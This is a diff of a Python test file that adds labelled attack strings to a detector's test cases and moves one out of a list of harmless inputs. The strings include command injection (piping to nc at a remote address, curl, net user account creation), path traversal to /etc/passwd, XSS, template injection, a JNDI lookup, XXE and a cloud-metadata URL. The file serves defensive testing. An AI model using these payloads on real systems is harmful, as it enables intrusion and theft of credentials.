@@ -15,7 +15,7 @@ JSON = [("Host", "api.example"), ("Content-Type", "application/json")]
 PLAIN = [
     "Password1!", "Summer2024!", "qwerty123", "ana.lopez", "Müller", "Zoë Ångström", "東京 ラーメン", "красные туфли",
     "red shoes size 9", "walnut desk 120 x 60", "2024-11-03", "19.99", "+44 20 7946 0958", "SW1A 1AA", "ord_81f3a9c2",
-    "550e8400-e29b-41d4-a716-446655440000", "eyJhbGciOiJIUzI1NiJ9", "how do I reset my password", "net user hacker Password1 ADD",
+    "550e8400-e29b-41d4-a716-446655440000", "eyJhbGciOiJIUzI1NiJ9", "how do I reset my password", "cat food for kittens", "sleep apnea",
     "best practice for information schema tables", "what is 2 plus 2", "price-desc", "G-XXXX", "2", "en-GB",
 ]
 
@@ -34,7 +34,11 @@ def test_a_value_in_plain_words_holds_no_kind_s_syntax(value: str) -> None:
     ("traversal", "../../etc/passwd"), ("traversal", "/etc/passwd"), ("traversal", "php://filter/resource=index.php"),
     ("traversal", "C:\\Windows\\win.ini"), ("traversal", "file:///etc/hosts"), ("traversal", "..%2f..%2f"),
     ("cmdi", "127.0.0.1; id"), ("cmdi", "x | nc 10.0.0.1 4444"), ("cmdi", "`whoami`"), ("cmdi", "$(id)"), ("cmdi", "a\nid"),
-    ("cmdi", "x && curl http://e"), ("cmdi", "$IFS"),
+    ("cmdi", "x && curl http://e"), ("cmdi", "$IFS"), ("cmdi", "net user hacker Password1 /ADD"), ("cmdi", "ping 127.0.0.1"),
+    ("cmdi", "uname -a"), ("cmdi", "whoami"), ("cmdi", "system('id')"), ("cmdi", "<!--#exec cmd=\"id\"-->"),
+    ("traversal", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), ("traversal", "0x2e0x2e/0x2e0x2e/etc/issue"), ("traversal", "/var/log/apache2/access.log"),
+    ("traversal", "WEB-INF/web.xml"), ("xss", "alert&lpar;1&rpar;"), ("xss", "alert`1`"),
+    ("other", "db.injection.insert({success:1});"), ("other", "/out?//x.oast.fun"), ("other", "/\\evil.example"),
     ("other", "{{7*7}}"), ("other", "${jndi:ldap://x/a}"), ("other", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
     ("other", "http://169.254.169.254/latest/meta-data/"), ("other", "//evil.example"), ("other", "http://good.example@evil.example"),
     ("other", "O:8:\"stdClass\":0:{}"), ("other", "rO0ABXNyABFq"), ("other", "*)(uid=*"), ("other", "a\r\nSet-Cookie: x=1"),
